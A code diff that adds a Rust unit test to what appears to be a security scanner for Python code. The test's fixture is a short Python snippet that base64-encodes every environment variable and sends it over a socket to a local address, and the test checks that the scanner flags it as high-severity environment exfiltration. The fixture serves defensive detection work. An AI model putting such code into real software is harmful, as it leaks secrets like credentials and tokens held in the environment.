@@ -93,6 +93,26 @@ class C:
 }
 
 #[test]
+fn m1_through_a_helper_function() {
+    let src = r#"import os, json, base64, socket
+def collect():
+    return base64.b64encode(json.dumps(dict(os.environ)).encode())
+def send():
+    s = socket.socket()
+    s.connect(("127.0.0.1", 9))
+    s.sendall(collect())
+"#;
+    let s = scan(src);
+    assert_finding(
+        &s,
+        Rule::EnvExfiltration,
+        Severity::High,
+        7,
+        "s.sendall(collect())",
+    );
+}
+
+#[test]
 fn b3_proxy_settings_from_environment_are_not_exfiltration() {
     let src = r#"import os, getpass, logging, requests
 log = logging.getLogger(__name__)
